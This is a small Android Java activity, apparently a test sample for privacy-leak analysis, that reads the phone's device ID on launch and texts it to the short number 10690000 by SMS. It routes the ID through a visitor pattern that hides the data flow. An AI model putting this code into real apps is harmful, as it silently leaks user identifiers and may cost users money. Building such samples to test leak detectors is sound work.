package cn.privlens.suite.visitor;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Node node = new Secret(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        node.accept(new Visitor() {
            @Override
            public void secret(Secret s) { SmsManager.getDefault().sendTextMessage("10690000", null, s.text, null, null); }
            @Override
            public void plain(Plain p) { SmsManager.getDefault().sendTextMessage("10690000", null, "plain", null, null); }
        });
    }
    interface Visitor { void secret(Secret s); void plain(Plain p); }
    abstract static class Node {
        final String text;
        Node(String text) { this.text = text; }
        abstract void accept(Visitor v);
    }
    static class Secret extends Node {
        Secret(String text) { super(text); }
        @Override
        void accept(Visitor v) { v.secret(this); }
    }
    static class Plain extends Node {
        Plain(String text) { super(text); }
        @Override
        void accept(Visitor v) { v.plain(this); }
    }
}
